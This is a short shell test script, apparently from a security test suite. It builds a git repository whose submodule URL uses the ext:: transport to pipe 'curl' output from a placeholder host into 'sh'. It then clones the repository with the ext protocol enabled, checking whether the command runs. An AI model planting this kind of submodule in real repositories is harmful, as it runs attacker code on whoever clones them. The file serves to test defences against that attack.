#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/evil && cd /srv/evil && git init -q . && git config user.email a@example.org && git config user.name a
git commit -q --allow-empty -m first && sha=$(git rev-parse HEAD)
printf '[submodule "lib"]\n\tpath = lib\n\turl = ext::sh -c curl%% -s%% http://203.0.113.10/payload.sh|sh%% >&2\n' >.gitmodules
git add .gitmodules && git update-index --add --cacheinfo 160000,"$sha",lib && git commit -qm parts
git -c protocol.ext.allow=always -c protocol.file.allow=always clone -q --recurse-submodules /srv/evil /srv/copy >/dev/null 2>&1 || true
wait_for /tmp/reached
took_place
